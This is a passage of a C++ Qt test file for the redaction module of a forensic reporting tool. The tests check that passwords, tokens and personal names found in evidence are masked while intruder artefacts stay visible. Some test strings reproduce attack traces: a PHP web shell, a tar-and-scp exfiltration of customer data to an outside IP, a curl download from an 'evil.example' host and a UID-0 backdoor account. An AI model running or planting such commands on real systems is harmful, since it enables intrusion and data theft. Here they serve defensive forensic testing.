#include "report/redaction.hpp"

#include <QTemporaryDir>

#include "report/build.hpp"
#include "report/findings.hpp"
#include "report/timeline_lines.hpp"
#include "support/case_fixture.hpp"
#include "support/test_main.hpp"

using namespace deadbox;

namespace {

constexpr const char* k_glass = "0123456789abcdef0123456789abcdee";  // forms of nobody: only the case knows that they are secret

void fill_redacted(test::CaseFixture& fixture) {
    test::FileSpec spec;
    spec.path = "/etc/passwd", spec.bytes = "root:x:0:0:root:/root:/bin/bash\nmartina:x:1000:1000:Martina Berg:/home/martina:/bin/bash\n";
    fixture.add_parsed("passwd", spec);
    spec = {};
    spec.path = "/srv/shop/.env", spec.content_type = "text/plain";
    spec.bytes = std::string("GLASS_TOKEN=") + k_glass + "\nDB_PASSWORD='Kiste mit Satz 7/x'\nROOM_KEY=base64:Q2hhbmdlTWVOb3Q+/2hhbmdlTWVOb3Q=\n";
    fixture.add_parsed("credentials", spec);
}

}  // namespace

class RedactionTest : public QObject {
    Q_OBJECT
private slots:
    // A value that a file of the machine names as a secret is left out wherever it stands, however it is spelled.
    void values_of_the_machine_data() {
        QTest::addColumn<QByteArray>("text");
        QTest::addColumn<QByteArray>("shown");
        const QByteArray glass = k_glass;
        QTest::newRow("in a script") << "$c='" + glass + "'; eval($x);" << QByteArray("$c='[redacted]'; eval($x);");
        QTest::newRow("in a path") << "GET /a/" + glass + " HTTP/1.1" << QByteArray("GET /a/[redacted] HTTP/1.1");
        QTest::newRow("a hash that is asked for") << QByteArray("if(md5($_POST['p'])=='5f4dcc3b5aa765d61d8327deb882cf99'){") << QByteArray("if(md5($_POST['p'])=='[redacted]'){");
        QTest::newRow("a hash that is asked for, the other way") << QByteArray("if (\"5baa61e4c9b93f3f0682250b6cf8331b7ee68fd8\" === sha1($p))") << QByteArray("if (\"[redacted]\" === sha1($p))");
        QTest::newRow("a digest of a file stays") << QByteArray("md5_file($f) == '5f4dcc3b5aa765d61d8327deb882cf99'") << QByteArray("md5_file($f) == '5f4dcc3b5aa765d61d8327deb882cf99'");
        QTest::newRow("another digest stays") << QByteArray("0123456789abcdef0123456789abcdef  /usr/bin/x") << QByteArray("0123456789abcdef0123456789abcdef  /usr/bin/x");
        QTest::newRow("with blanks") << QByteArray("echo Kiste mit Satz 7/x | x") << QByteArray("echo [redacted] | x");
        QTest::newRow("in a comment") << QByteArray("ls # das Passwort ist Kiste7x!") << QByteArray("ls # das Passwort ist [redacted]");
        QTest::newRow("percent") << QByteArray("GET /?a=Kiste%20mit%20Satz%207%2Fx HTTP/1.1") << QByteArray("GET /?a=[redacted] HTTP/1.1");
        QTest::newRow("form") << QByteArray("a=Kiste+mit+Satz+7/x&b=1") << QByteArray("a=[redacted]&b=1");
        QTest::newRow("JSON") << QByteArray("{\"a\":\"Kiste mit Satz 7\\/x\"}") << QByteArray("{\"a\":\"[redacted]\"}");
        QTest::newRow("joined to a name in a sentence") << QByteArray("(/srv/kunden-pw_NamePw55.zip; 2) and /srv/kunden-pw_NamePw55.zip.") << QByteArray("(/srv/kunden-pw_[redacted].zip; 2) and /srv/kunden-pw_[redacted].zip.");
        QTest::newRow("paths stay") << QByteArray("/etc/pam.d/common-password, /usr/lib/libpam_pwquality.so.1.0.2 and a/b") << QByteArray("/etc/pam.d/common-password, /usr/lib/libpam_pwquality.so.1.0.2 and a/b");
        QTest::newRow("cut off") << QByteArray(200, '#') + " $c='" + glass.left(20) << QByteArray(200, '#') + " $c='[redacted]";
        QTest::newRow("its beginning, where nothing was cut") << "$c='" + glass.left(20) << "$c='" + glass.left(20);
    }
    void values_of_the_machine() {
        test::CaseFixture fixture;
        fill_redacted(fixture);
        const auto view = case_file::View::open(fixture.path());
        const auto redactor = report::Redactor::load(*view, report::Redact::secrets);
        QVERIFY(redactor.has_value());
        QFETCH(QByteArray, text);
        QFETCH(QByteArray, shown);
        QCOMPARE(QByteArray::fromStdString(redactor->text(text.toStdString())), shown);
    }

    // However many begin alike, and one with another: none is forgotten, and the longest is taken out.
    void values_that_begin_alike() {
        test::CaseFixture fixture;
        fill_redacted(fixture);
        fixture.sql("INSERT INTO credential(system, inode, kind, value) WITH RECURSIVE n(i) AS (SELECT 0 UNION ALL SELECT i + 1 FROM n WHERE i < 1199) SELECT 1, 1, 'password', 'Firma2026-Geraet!' || i FROM n");
        fixture.sql("INSERT INTO credential(system, inode, kind, value) VALUES(1, 1, 'password', 'Firma2026-Geraet!1100-b!lang'), (1, 1, 'password', 'Firma2026-Geraet!z')");
        const auto view = case_file::View::open(fixture.path());
        const auto redactor = report::Redactor::load(*view, report::Redact::secrets);
        QVERIFY(redactor.has_value());
        const auto shown = [&](const std::string& text) { return QByteArray::fromStdString(redactor->text(text)); };
        for (int i = 0; i < 1200; ++i) QCOMPARE(shown("it is Firma2026-Geraet!" + std::to_string(i) + " now"), QByteArray("it is [redacted] now"));
        QCOMPARE(shown("Firma2026-Geraet!1100-b!lang, Firma2026-Geraet!1100-b!kurz"), QByteArray("[redacted], [redacted]-b!kurz"));
        QCOMPARE(shown("Firma2026-Geraet!z and Firma2026-Geraet! and Firma2026-Geraet?"), QByteArray("[redacted] and Firma2026-Geraet! and Firma2026-Geraet?"));
        const std::string before(200, '.');
        QCOMPARE(shown(before + "Firma2026-Geraet!1100-b!la"), QByteArray::fromStdString(before + "[redacted]"));  // an excerpt that ends there
        QCOMPARE(shown(before + "Firma2026-Geraet!1100-b!lo"), QByteArray::fromStdString(before + "[redacted]-b!lo"));
    }

    // An intruder declares names of his own to be passwords: they stay what they are, but where they are used as such. A password stays hidden.
    void names_stay_true_data() {
        QTest::addColumn<QByteArray>("text");
        QTest::addColumn<QByteArray>("shown");
        const auto stays = [](const char* text) { QTest::newRow(text) << QByteArray(text) << QByteArray(text); };
        stays("/var/www/html/uploads7/x99shell.php");
        stays("203.0.113.77 - - \"GET /uploads7/x99shell.php?c=id HTTP/1.1\" 200");
        stays("rm x99shell.php; tar czf /srv/kunden2026.tar.gz /var/www; scp kunden2026.tar.gz x@203.0.113.77:");
        stays("new user: name=svc9update, UID=0");
        stays("Accepted password for svc9update from 203.0.113.77 port 51515 ssh2");
        stays("GET /gone7dir/gone8x.php HTTP/1.1");  // deleted, not on the disk
        stays("./gone8x.php; cp gone8x.php.bak /tmp");
        stays("/etc/pam.d/common-password");
        stays("connect to evil7.example.net, 2001:db8::77 and mail boss77@evil.example");
        stays("curl -O https://evil.example/a7b8c9");
        stays("<?php system($_GET['c7']); ?>");
        stays("password");
        stays("kind=password");
        stays("/srv/exfil.tgz");
        stays("Debian GNU/Linux 12 (bookworm) in Europe/Berlin");
        stays("part of x99shell");  // a part of a name of the case
        stays("libzz2-8-0:amd64 2.3.3-1 was installed");
        QTest::newRow("where one is used as a password") << QByteArray("X1_PASSWORD=x99shell.php") << QByteArray("X1_PASSWORD=[redacted]");
        QTest::newRow("as an option") << QByteArray("sshpass -p x99shell.php ssh h") << QByteArray("sshpass -p [redacted] ssh h");
        QTest::newRow("the other half of two") << QByteArray("it was Vukolem8812 for exfil.tgz") << QByteArray("it was [redacted] for exfil.tgz");
        QTest::newRow("both halves") << QByteArray("note: exfil.tgz:Vukolem8812") << QByteArray("note: exfil.tgz:[redacted]");
        QTest::newRow("an account and a short one") << QByteArray("note: svc9update:Kuk7") << QByteArray("note: svc9update:[redacted]");
        QTest::newRow("a line for chpasswd") << QByteArray("svc9update:Bafenzo8755") << QByteArray("svc9update:[redacted]");
        stays("svc9update:15-alpine");
        stays("nobody9:Bafenzo8755");  // no account
        QTest::newRow("the login of a link") << QByteArray("said Linkpw7788 again") << QByteArray("said [redacted] again");
        QTest::newRow("a password") << QByteArray("they tried Sommer2025! and /a/Sommer2025! and kunden-Sommer2025!.zip") << QByteArray("they tried [redacted] and /a/[redacted] and kunden-[redacted].zip");
        QTest::newRow("a password of Oracle") << QByteArray("sql system/Kastanie7712@ORCL") << QByteArray("sql system/[redacted]@ORCL");
        QTest::newRow("a token in a path") << QByteArray("GET /hook/0123456789abcdef0123456789abcdee HTTP/1.1") << QByteArray("GET /hook/[redacted] HTTP/1.1");
    }
    void names_stay_true() {
        test::CaseFixture fixture;
        test::FileSpec spec;
        spec.path = "/etc/passwd", spec.bytes = "root:x:0:0:root:/root:/bin/bash\nsvc9update:x:0:0::/root:/bin/bash\n";
        fixture.add_parsed("passwd", spec);
        spec = {};
        spec.path = "/etc/os-release", spec.bytes = "ID=debian\nPRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\n";
        fixture.add_parsed("os_release", spec);
        for (const char* path : {"/var/www/html/uploads7/x99shell.php", "/srv/kunden2026.tar.gz", "/srv/exfil.tgz", "/etc/pam.d/common-password", "/var/lib/dpkg/info/libzz2-8-0:amd64.list"}) {
            spec = {};
            spec.path = path, spec.bytes = "x";
            fixture.add(spec);
        }
        spec = {};
        spec.path = "/srv/shop/.env", spec.content_type = "text/plain";
        int number = 0;
        for (const char* value : {"x99shell.php", "99shell.php", "x99shell", "uploads7", "uploads7/x99shell.php", "x99shell.php?c=id", "\"GET /uploads7/x99shell.php?c=id HTTP/1.1\"", "kunden2026.tar.gz", "kunden2026", "svc9update", "vc9update", "svc9update:Kuk7", "gone7dir", "gone8x.php",
                                  "evil7.example.net", "2001:db8::77", "GNU/Linux", "ibzz2-8-0:", "zz2-8-0:amd64", "libzz2-8-0:amd64", "\"Linux 12 (bookworm)\"", "boss77@evil.example", "https://evil.example/a7b8c9", "203.0.113.77:51515", "\"from 203.0.113.77 port 51515\"", "exfil.tgz:Vukolem8812", "password:Vukolem8812", "\"system($_GET['c7']\"", "mysql://u:Linkpw7788@db/x", "Sommer2025!", "Kastanie7712",
                                  "0123456789abcdef0123456789abcdee"})
            spec.bytes += "X" + std::to_string(number++) + "_PASSWORD=" + value + "\n";
        fixture.add_parsed("credentials", spec);
        fixture.sql("INSERT INTO string(value, shared) VALUES('evil7.example.net', 1)");  // a log names it
        const auto view = case_file::View::open(fixture.path());
        const auto redactor = report::Redactor::load(*view, report::Redact::secrets);
        QVERIFY(redactor.has_value());
        QFETCH(QByteArray, text);
        QFETCH(QByteArray, shown);
        QCOMPARE(QByteArray::fromStdString(redactor->text(text.toStdString())), shown);
        if (text.startsWith('/') && text == shown) QCOMPARE(QByteArray::fromStdString(redactor->name(text.toStdString())), shown);
    }

    // An account may be called as words of ours are: our sentences stay, what the evidence says in them does not.
    void our_sentences_stay() {
        test::CaseFixture fixture;
        test::FileSpec spec;
        spec.path = "/etc/passwd", spec.bytes = "root:x:0:0:root:/root:/bin/bash\nmay:x:1000:1000:May Long:/home/may:/bin/bash\n";
        fixture.add_parsed("passwd", spec);
        fixture.sql("INSERT INTO finding VALUES('aaaaaaaaaaaaaaaa', 'd', 'accounts/uid_zero_twin', 1, 1, 'may', 3, 1, '{\"user\":\"may\",\"shell\":\"/home/may/Kiste.sh\",\"password\":\"set\"}', 1710000000, 0, 2, NULL, NULL, 1, 0)");
        fixture.sql("INSERT INTO finding_item(finding, place, key, excerpt) VALUES('aaaaaaaaaaaaaaaa', 1, 'may', 'May Long may enter')");
        const auto view = case_file::View::open(fixture.path());
        const auto texts = report::Texts::load("en");
        const auto findings = report::load_findings(*view, *texts, report::Redact::persons, {});
        QVERIFY(findings.has_value() && findings->size() == 1);
        const auto& finding = findings->front();
        QVERIFY2(finding.explanation.find("as person-1 (shell /home/person-1/Kiste.sh, password: ") != std::string::npos && finding.explanation.find(" may do everything") != std::string::npos, finding.explanation.c_str());
        QCOMPARE(finding.subject, std::string("person-1"));
        QCOMPARE(finding.items.at(0).excerpt.value_or(""), std::string("person-1 person-1 enter"));
    }

    // Accounts named as the folders of every machine, so that nothing can be read: paths and addresses stay.
    void words_of_systems_are_nobody() {
        test::CaseFixture fixture;
        test::FileSpec spec;
        spec.path = "/etc/passwd", spec.bytes = "root:x:0:0:root:/root:/bin/bash\n";
        int uid = 1000;
        for (const char* name : {"var", "www", "html", "uploads", "php", "203", "anna"})
            spec.bytes += std::string(name) + ":x:" + std::to_string(uid) + ":" + std::to_string(uid) + ":" + (name == std::string("anna") ? "Anna Uploads Berg" : name) + ":/home/" + name + ":/bin/bash\n", ++uid;
        fixture.add_parsed("passwd", spec);
        const auto view = case_file::View::open(fixture.path());
        const auto redactor = report::Redactor::load(*view, report::Redact::persons);
        QCOMPARE(redactor->name("/var/www/html/uploads/anna/x.php"), std::string("/var/www/html/uploads/person-7/x.php"));
        QCOMPARE(redactor->text("203.0.113.77 asked for /uploads/x.php, said Berg"), std::string("203.0.113.77 asked for /uploads/x.php, said person-7"));
    }

    // A name is read part by part: what has no form of a secret stays as it is.
    void names_data() {
        QTest::addColumn<QByteArray>("name");
        QTest::addColumn<QByteArray>("shown");
        QTest::newRow("a token") << QByteArray("/home/m/ghp_abcdefghijklmnopqrstuvwxyz0123456789.txt") << QByteArray("/home/m/[redacted]");
        QTest::newRow("a token behind a name") << QByteArray("/srv/token_ghp_9Z8y7X6w5V4u3T2s1R0q9P8o7N6m5L4k3J2i.php") << QByteArray("/srv/token_[redacted]");
        QTest::newRow("a setting") << QByteArray("/var/www/password=Kiste7x.php") << QByteArray("/var/www/password=[redacted]");
        QTest::newRow("and what lies in it") << QByteArray("/srv/password=Kiste7x/a/b") << QByteArray("/srv/password=[redacted]/a/b");
        QTest::newRow("where a link leads") << QByteArray("https://bob:Kiste7x@host/a") << QByteArray("https://bob:[redacted]@host/a");
        QTest::newRow("a note by its name") << QByteArray("/srv/Passwort Kiste7x.php") << QByteArray("/srv/Passwort [redacted].php");
        QTest::newRow("behind a word and a sign") << QByteArray("/srv/kunden-pw_NamePw55.zip") << QByteArray("/srv/kunden-pw_[redacted].zip");
        QTest::newRow("in brackets") << QByteArray("/srv/Lohn (Passwort-Kiste7!x).pdf") << QByteArray("/srv/Lohn (Passwort-[redacted]).pdf");
        QTest::newRow("small letters, of an archive") << QByteArray("/srv/Kennwort_sommer24.7z") << QByteArray("/srv/Kennwort_[redacted].7z");
        QTest::newRow("a setting, German") << QByteArray("/srv/passwort=Kiste7x.txt") << QByteArray("/srv/passwort=[redacted]");
        QTest::newRow("a value of the machine") << QByteArray("/srv/") + k_glass << QByteArray("/srv/[redacted]");
        for (const char* plain : {"/usr/share/doc/passwd/changelog.Debian.gz", "/lib/modules/6.1.0-1-amd64/kernel/x.ko", "/var/lib/dpkg/info/libc6:amd64.md5sums", "/etc/ssl/certs/ca6e4ad9.0", "/a//b/", "/", "password",
                                  "/srv/git/objects/0f/1d8c2f5c2be9d56f1c3bd7bd0ce1bb2c1a37aa", "/usr/lib/klibc-XX6cASCB7KZyJWpIJW79y94XHBY.so", "/etc/letsencrypt/live/www.example.org/privkey.pem",
                                  "/srv/Password policy 2026.pdf", "/srv/Passwort vergessen.docx", "/srv/how to reset a password.html", "/srv/Password Manager v2.3.exe", "/usr/share/man/man1/passwd.1ssl.gz", "/etc/pam.d/common-password-2024-01-01", "/usr/lib/x/libpam_pwquality.so.1.0.2", "/srv/pw_hash512.php", "/srv/password-store1.7.4.zip",
                                  "/usr/lib/python3/passwd_sha256.pyc", "/srv/pin_12345678.txt", "/usr/share/icons/dialog-password-symbolic.svg", "/srv/pass_through_v2.ko"})
            QTest::newRow(plain) << QByteArray(plain) << QByteArray(plain);
    }
    void names() {
        test::CaseFixture fixture;
        fill_redacted(fixture);
        const auto view = case_file::View::open(fixture.path());
        const auto redactor = report::Redactor::load(*view, report::Redact::secrets);
        QFETCH(QByteArray, name);
        QFETCH(QByteArray, shown);
        QCOMPARE(QByteArray::fromStdString(redactor->name(name.toStdString())), shown);
        QCOMPARE(report::Redactor().name(name.toStdString()), name.toStdString());
    }

    void persons_data() {
        QTest::addColumn<QByteArray>("text");
        QTest::addColumn<QByteArray>("shown");
        QTest::newRow("an account") << QByteArray("martina logged in") << QByteArray("person-1 logged in");
        QTest::newRow("an account with a sign in it, joined to a word") << QByteArray("backup_o-neil_2026, o-neil, o-neill") << QByteArray("backup_person-11_2026, person-11, o-neill");
        QTest::newRow("her whole name") << QByteArray("by Martina Berg") << QByteArray("by person-1");
        QTest::newRow("a part of it") << QByteArray("Frau Berg, /team/Berg.php") << QByteArray("Frau person-1, /team/person-1.php");
        QTest::newRow("a part of a word") << QByteArray("Bergwerk Heidelberg") << QByteArray("Bergwerk Heidelberg");
        QTest::newRow("mail") << QByteArray("martina.berg@corp.example.org, m.berg@example.org") << QByteArray("[redacted]@corp.example.org, [redacted]@example.org");
        QTest::newRow("mail to an account") << QByteArray("<martina@example.org>") << QByteArray("<person-1@example.org>");
        QTest::newRow("an instance of a unit") << QByteArray("/etc/systemd/system/getty.target.wants/getty@tty1.service, user@0.service.d, x@0024a.frm") << QByteArray("/etc/systemd/system/getty.target.wants/getty@tty1.service, user@0.service.d, x@0024a.frm");
        QTest::newRow("an image's own account") << QByteArray("changelog.Debian.gz, debian logged in") << QByteArray("changelog.Debian.gz, debian logged in");
        QTest::newRow("of a role") << QByteArray("the admin of the server") << QByteArray("the admin of the server");
        QTest::newRow("in capitals") << QByteArray("Frau BERG, HERR MÜLLER") << QByteArray("Frau person-1, HERR person-4");
        QTest::newRow("the family's name first") << QByteArray("Berg Martina and Wu Li") << QByteArray("person-1 and person-5");
        QTest::newRow("an umlaut spelled out") << QByteArray("J. Mueller, Mueller.php, Muellermeister") << QByteArray("J. person-4, person-4.php, Muellermeister");
        QTest::newRow("half of a double name") << QByteArray("Herrn Weiß, Weiss-Graf, WEISS and Graf") << QByteArray("Herrn person-8, person-8, person-8 and person-8");
        QTest::newRow("an apostrophe") << QByteArray("OConnor, O’Connor and O'CONNOR, Akte_OConnor.odt, oconnor@x") << QByteArray("person-9, person-9 and person-9, Akte_person-9.odt, person-9@x");
        QTest::newRow("joined by a sign") << QByteArray("/u/Joerg_Mueller.vcf") << QByteArray("/u/person-4_person-4.vcf");
        QTest::newRow("percent, UTF-8") << QByteArray("GET /p/J%C3%B6rg-M%C3%BCller?n=%C3%96zlem HTTP/1.1") << QByteArray("GET /p/person-4-person-4?n=person-8 HTTP/1.1");
        QTest::newRow("percent, Latin-1") << QByteArray("/user?name=J%F6rg+M%FCller&x=Wei%DF") << QByteArray("/user?name=person-4+person-4&x=person-8");
        QTest::newRow("letters and marks apart") << QByteArray("Mu\u0308ller.txt") << QByteArray("person-4.txt");
        QTest::newRow("another script stays") << QByteArray("Kuznetsova") << QByteArray("Kuznetsova");
        QTest::newRow("without marks") << QByteArray("JOSÉ GARCÍA, jose.php, Kosciuszko, KOŚCIUSZKO") << QByteArray("person-6, person-6.php, person-7, person-7");
        QTest::newRow("a number that is a room's") << QByteArray("sshd[10443]: port 10443 on 2026-03-02") << QByteArray("sshd[10443]: port 10443 on 2026-03-02");
        QTest::newRow("where one is reached") << QByteArray("call 0171 5551234, Büro 4, room 7") << QByteArray("call [redacted], [redacted], [redacted]");
        QTest::newRow("a title") << QByteArray("Dr. Who") << QByteArray("Dr. Who");
        QTest::newRow("another account's name") << QByteArray("games and backup") << QByteArray("games and backup");
    }
    void persons() {
        test::CaseFixture fixture;
        test::FileSpec spec;
        spec.path = "/etc/passwd";
        spec.bytes = "root:x:0:0:root:/root:/bin/bash\ngames:x:5:60:games:/usr/games:/bin/sh\nmartina:x:1000:1000:Martina Berg,room 7:/home/martina:/bin/bash\n"
                     "ops:x:1001:1001:Server Admin Games:/home/ops:/bin/bash\ndebian:x:1002:1002:Debian:/home/debian:/bin/bash\n"
                     "jmueller:x:1003:1003:Dr. Jörg Müller,Büro 4,0171 5551234,:/home/jmueller:/bin/bash\nliwu:x:1004:1004:Li Wu:/home/liwu:/bin/bash\n"
                     "jgarcia:x:1005:1005:José García,10443,,,2026-03-02:/home/jgarcia:/bin/bash\njank:x:1006:1006:Jan Kościuszko:/home/jank:/bin/bash\n"
                     "ozw:x:1007:1007:Özlem Weiß-Graf:/home/ozw:/bin/bash\nsio:x:1008:1008:Siobhán O'Connor:/home/sio:/bin/bash\nsvet:x:1009:1009:Светлана Кузнецова:/home/svet:/bin/bash\no-neil:x:1010:1010::/home/o-neil:/bin/bash\n";
        fixture.add_parsed("passwd", spec);
        const auto view = case_file::View::open(fixture.path());
        const auto redactor = report::Redactor::load(*view, report::Redact::persons);
        QFETCH(QByteArray, text);
        QFETCH(QByteArray, shown);
        QCOMPARE(QByteArray::fromStdString(redactor->text(text.toStdString())), shown);
    }

    // In what people write a secret stands in a sentence.
    void sentences_data() {
        QTest::addColumn<QByteArray>("text");
        QTest::addColumn<QByteArray>("shown");
        QTest::newRow("before more words") << QByteArray("password: Kiste7x given by Martina") << QByteArray("password: [redacted] given by Martina");
        QTest::newRow("is") << QByteArray("The password is Kiste7x, and it was told") << QByteArray("The password is [redacted], and it was told");
        QTest::newRow("of whom") << QByteArray("Passwort von root: Kiste7x") << QByteArray("Passwort von root: [redacted]");
        QTest::newRow("whose name has digits") << QByteArray("the password of web1 is Kiste7x.") << QByteArray("the password of web1 is [redacted].");
        QTest::newRow("quoted") << QByteArray("his password was \"sommer\"") << QByteArray("his password was \"[redacted]\"");
        QTest::newRow("short") << QByteArray("root pw Sommer24!") << QByteArray("root pw [redacted]");
        QTest::newRow("a word of the language") << QByteArray("root pw: letmein, and more") << QByteArray("root pw: [redacted], and more");
        QTest::newRow("one behind its owner") << QByteArray("Passwort von root: schatz") << QByteArray("Passwort von root: [redacted]");
        QTest::newRow("from one to another") << QByteArray("password changed from Kiste7x to Kiste8x today") << QByteArray("password changed from [redacted] to [redacted] today");
        QTest::newRow("set to") << QByteArray("Das Kennwort haben wir auf Kiste7x gesetzt") << QByteArray("Das Kennwort haben wir auf [redacted] gesetzt");
        QTest::newRow("pass") << QByteArray("user=root pass Kiste7x") << QByteArray("user=root pass [redacted]");
        QTest::newRow("before a host") << QByteArray("admin:Kiste7x@10.0.0.1 works") << QByteArray("admin:[redacted]@10.0.0.1 works");
        QTest::newRow("a compound") << QByteArray("Das Root-Passwort lautet Kiste7x! und das Adminkennwort (Kiste8x!) ist alt") << QByteArray("Das Root-Passwort lautet [redacted] und das Adminkennwort ([redacted]) ist alt");
        QTest::newRow("changed to") << QByteArray("the root password was changed to Kiste7x!") << QByteArray("the root password was changed to [redacted]");
        QTest::newRow("changed to, German") << QByteArray("Das Passwort wurde auf Kiste7x! geändert") << QByteArray("Das Passwort wurde auf [redacted] geändert");
        QTest::newRow("got in with") << QByteArray("We logged in as root with Kiste7x!") << QByteArray("We logged in as root with [redacted]");
        QTest::newRow("a pair") << QByteArray("Zugang: anna:Kiste7x! und login root/Kiste8x") << QByteArray("Zugang: anna:[redacted] und login root/[redacted]");
        QTest::newRow("a pair apart") << QByteArray("Zugang mit admin / Kiste7x") << QByteArray("Zugang mit admin / [redacted]");
        QTest::newRow("several") << QByteArray("passwords are Kiste7x!, Kiste8x! and Kiste9x!") << QByteArray("passwords are [redacted], [redacted] and [redacted]");
        QTest::newRow("a number") << QByteArray("CISO, PIN 482913") << QByteArray("CISO, PIN [redacted]");
        QTest::newRow("words in quotes") << QByteArray("mit dem Passwort \"Kiste7 mit Leerzeichen\" ging es") << QByteArray("mit dem Passwort \"[redacted]\" ging es");
        QTest::newRow("a key of an interface") << QByteArray("The API key zokoru#7Q was rotated; WLAN key = Rismi!49") << QByteArray("The API key [redacted] was rotated; WLAN key = [redacted]");
        QTest::newRow("Bearer") << QByteArray("Bearer Zoriste-81x found in memory") << QByteArray("Bearer [redacted] found in memory");
        QTest::newRow("a key, German") << QByteArray("Der Schlüssel für die Schnittstelle ist Ruhol!63. API-Schlüssel Holpel5836 gesperrt, Geheimnis: Quozo-68x") << QByteArray("Der Schlüssel für die Schnittstelle ist [redacted]. API-Schlüssel [redacted] gesperrt, Geheimnis: [redacted]");
        QTest::newRow("German") << QByteArray("Kennwort lautet Kiste7x") << QByteArray("Kennwort lautet [redacted]");
        for (const char* plain : {"The password of backup1 was changed on 2026-03-02T04:16:40Z", "password reset; see web1 and ticket INC4711", "passwords are hashed with sha512 on db1!", "No password was found. Then Abc123 came",
                                  "Passwort geändert!", "password: changed", "Passwort: unbekannt", "passwords of root and of backup1 to be changed", "password: see the vault", "mail to ops@example.org: password policy", "12:30 told bob@web1", "the login came from 203.0.113.77 with a key", "logged in at 12:30 as bob/web1", "access to web1:8080 was closed", "Zugang zu https://web1/login7 gesperrt", "the bypass 7x was closed", "password \"", "key findings on web1", "the SSH key SHA256:47DEQpj8HBSa on db1", "SSH-Schlüssel ed25519 von web1 ersetzt", "the password stands in /etc/shop7/db.conf"})
            QTest::newRow(plain) << QByteArray(plain) << QByteArray(plain);
    }
    void sentences() {
        test::CaseFixture fixture;
        fill_redacted(fixture);
        const auto view = case_file::View::open(fixture.path());
        const auto redactor = report::Redactor::load(*view, report::Redact::secrets);
        QFETCH(QByteArray, text);
        QFETCH(QByteArray, shown);
        QCOMPARE(QByteArray::fromStdString(redactor->told(text.toStdString())), shown);
    }

    // A password that was typed where the name is asked for; names that guessers try stay.
    void typed_for_a_name_data() {
        QTest::addColumn<QStringList>("log");  // second message
        QTest::addColumn<bool>("hidden");
        const auto refused = [](int at, const char* name, const char* from = "203.0.113.7") { return QString("%1 Failed password for invalid user %2 from %3 port 4000 ssh2").arg(at).arg(name, from); };
        const auto in = [](int at, const char* from = "203.0.113.7", const char* name = "martina") { return QString("%1 Accepted password for %2 from %3 port 4001 ssh2").arg(at).arg(name, from); };
        QTest::newRow("then the name") << QStringList{refused(0, "Kiste-Pw0"), in(20)} << true;
        QTest::newRow("mistyped as well") << QStringList{refused(0, "Kiste-Pw0"), refused(10, "martian"), in(30)} << true;
        QTest::newRow("nobody was let in") << QStringList{refused(0, "Kiste-Pw0")} << false;
        QTest::newRow("from elsewhere") << QStringList{refused(0, "Kiste-Pw0"), in(20, "198.51.100.7")} << false;
        QTest::newRow("much later") << QStringList{refused(0, "Kiste-Pw0"), in(400)} << false;
        QTest::newRow("before") << QStringList{in(0), refused(20, "Kiste-Pw0")} << false;
        QTest::newRow("a guesser who got in") << QStringList{refused(0, "admin"), refused(1, "oracle"), refused(2, "Kiste-Pw0"), refused(3, "test"), refused(4, "pi"), in(20)} << false;
        QTest::newRow("that very name, in other letters") << QStringList{refused(0, "Kiste-Pw0"), in(20, "203.0.113.7", "kiste-pw0")} << false;
    }
    void typed_for_a_name() {
        QFETCH(QStringList, log);
        QFETCH(bool, hidden);
        test::CaseFixture fixture;
        test::FileSpec spec;
        spec.path = "/var/log/auth.log";
        for (const auto& step : log) spec.bytes += base::to_rfc3339({1'772'352'000 + step.section(' ', 0, 0).toInt(), 0}).substr(0, 19) + "+00:00 web1 sshd[4711]: " + step.section(' ', 1).toStdString() + "\n";
        fixture.add_parsed("syslog", spec);
        const auto view = case_file::View::open(fixture.path());
        const auto redactor = report::Redactor::load(*view, report::Redact::secrets);
        QVERIFY(redactor.has_value());
        QCOMPARE(redactor->text("invalid user Kiste-Pw0 from"), std::string(hidden ? "invalid user [redacted] from" : "invalid user Kiste-Pw0 from"));
        QCOMPARE(redactor->text("invalid user oracle1 from"), std::string("invalid user oracle1 from"));
    }

    // The digests that a seal has of tables are no secrets, whatever the tables are called; what people typed is redacted and says so.
    void seals_stay_whole() {
        test::CaseFixture fixture;
        fill_redacted(fixture);
        const auto view = case_file::View::open(fixture.path());
        const std::string digest(64, 'a'), seal = "{\"account\":\"batches\",\"credential\":\"batches\",\"password\":\"" + digest + "\",\"typed_secret\":\"" + digest + "\"}";
        for (const auto redact : {report::Redact::secrets, report::Redact::persons}) {
            const auto redactor = report::Redactor::load(*view, redact);
            QVERIFY(redactor.has_value());
            QCOMPARE(redactor->custody(seal), seal);
            const auto typed = redactor->custody("{\"kind\":\"note\",\"password\":\"" + digest + "\"}");
            QVERIFY2(typed.find(digest) == std::string::npos, typed.c_str());
            QVERIFY2(typed.ends_with(redact == report::Redact::secrets ? "\"redacted\":\"secrets\"}" : "\"redacted\":\"persons\"}"), typed.c_str());
        }
    }

    // A name that nobody has, in whatever message it was refused; names that guessers try stay. An account's name stays, whatever it is.
    void no_name_of_anybody_data() {
        QTest::addColumn<QByteArray>("line");
        QTest::addColumn<QByteArray>("hidden");  // "" where nothing is
        const auto row = [](const char* line, const char* hidden) { QTest::newRow(line) << QByteArray(line) << QByteArray(hidden); };
        row("sshd[1]: Failed password for invalid user Ka!stanie7 from 203.0.113.7 port 1 ssh2", "Ka!stanie7");
        row("sshd[1]: Connection closed by invalid user Ka!stanie7 203.0.113.7 port 3 [preauth]", "Ka!stanie7");
        row("sshd[1]: User Ka!stanie7 from 203.0.113.7 not allowed because not listed in AllowUsers", "Ka!stanie7");
        row("sshd[1]: Failed none for invalid user Ka!stanie7 from 203.0.113.7 port 4 ssh2", "Ka!stanie7");
        row("sshd[1]: input_userauth_request: invalid user Ka!stanie7 [preauth]", "Ka!stanie7");
        row("sshd[1]: error: maximum authentication attempts exceeded for invalid user Ka!stanie7 from 203.0.113.7 port 6 ssh2 [preauth]", "Ka!stanie7");
        row("sudo:  Ka!stanie7 : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/id", "Ka!stanie7");
        row("dovecot: imap-login: Disconnected (auth failed, 1 attempts): user=<Ka!stanie7>, method=PLAIN, rip=203.0.113.7", "Ka!stanie7");
        row("su: FAILED SU (to Ka!stanie7) martina on pts/1", "Ka!stanie7");
        row("su[77]: pam_unix(su:auth): authentication failure; logname=martina uid=1000 euid=0 tty=pts/1 ruser=martina rhost=  user=Ka!stanie7", "Ka!stanie7");
        row("vsftpd: pam_unix(vsftpd:auth): authentication failure; logname= uid=0 euid=0 tty=ftp ruser=Ka!stanie7 rhost=203.0.113.7", "Ka!stanie7");
        row("login[78]: FAILED LOGIN (2) on '/dev/tty1' FOR 'Ka!stanie7', User not known to the underlying authentication module", "Ka!stanie7");
